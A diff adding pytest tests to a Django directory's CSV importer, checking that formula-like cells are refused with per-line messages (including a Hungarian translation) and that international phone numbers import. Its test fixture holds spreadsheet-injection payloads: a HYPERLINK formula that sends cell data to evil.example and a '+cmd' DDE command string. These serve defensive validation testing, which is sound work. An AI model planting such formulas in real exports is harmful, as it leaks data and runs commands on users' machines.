@@ -141,3 +141,58 @@ def test_the_documented_example_file_imports(taxonomy):
     out, _err = run(str(Path(directory.__file__).parent / "import_example.csv"))
     assert "1 new" in out
     assert Organisation.objects.get(slug="sample-import-shelter-ghent").services.count() == 3
+
+
+FORMULAS = (
+    "slug,name,kind,country,city,address,description,phone,opening_hours\n"
+    "fine-one,Fine One,ngo,BE,Ghent,,,+32 2 000 01 00,\n"
+    '"formula-one","=HYPERLINK(""http://evil.example/?d=""&A1)",ngo,BE,Ghent,,,,\n'
+    "formula-two,Two,ngo,BE,@Ghent,-1+1,+cmd|' /C calc'!A0,,\t=1+1\n"
+    "formula-three,Three,ngo,BE,Ghent,,,=1+1,\n"
+    "formula-four,Four,ngo,BE,Ghent,,,+36 1 234 5678 =A1,\n"
+)
+
+
+def test_cells_that_a_spreadsheet_would_run_are_refused_with_their_line(taxonomy, tmp_path):
+    from io import StringIO
+
+    make_existing = run(write(tmp_path, "slug,name,kind,country,city\nkept,Kept,ngo,BE,Ghent\n", "first.csv"))
+    assert "1 new" in make_existing[0]
+    err = StringIO()
+    with pytest.raises(CommandError, match="7 problems found: nothing was imported"):
+        call_command("import_directory", write(tmp_path, FORMULAS), stdout=StringIO(), stderr=err)
+
+    assert err.getvalue().splitlines() == [
+        "Line 3: “name” starts with “=”, which a spreadsheet would run as a formula; begin the text differently",
+        "Line 4: “city” starts with “@”, which a spreadsheet would run as a formula; begin the text differently",
+        "Line 4: “address” starts with “-”, which a spreadsheet would run as a formula; begin the text differently",
+        "Line 4: “description” starts with “+”, which a spreadsheet would run as a formula; "
+        "begin the text differently",
+        "Line 4: “opening_hours” starts with “=”, which a spreadsheet would run as a formula; "
+        "begin the text differently",
+        "Line 5: “phone” starts with “=” but is not a phone number in international format such as +36 1 234 5678",
+        "Line 6: “phone” starts with “+” but is not a phone number in international format such as +36 1 234 5678",
+    ]
+    assert list(Organisation.objects.values_list("slug", flat=True)) == ["kept"]
+
+
+def test_a_phone_number_in_international_format_imports(taxonomy, tmp_path):
+    text = "slug,name,kind,country,city,phone\nbudapest-aid,Budapest Aid,ngo,HU,Budapest,+36 1 234 5678\n"
+    out, _err = run(write(tmp_path, text))
+
+    assert "1 new" in out
+    assert Organisation.objects.get(slug="budapest-aid").phone == "+36 1 234 5678"
+
+
+def test_the_formula_message_is_translated(taxonomy):
+    from django.utils import translation
+
+    from directory.importer import parse
+
+    with translation.override("hu"):
+        _rows, errors = parse("slug,name,kind,country,city\nx,=1+1,ngo,BE,Gent\n")
+        report = [str(error) for error in errors]
+    assert report == [
+        "2. sor: „name” ezzel kezdődik: „=”, amit egy táblázatkezelő képletként futtatna; "
+        "kérjük, kezdje másként a szöveget"
+    ]
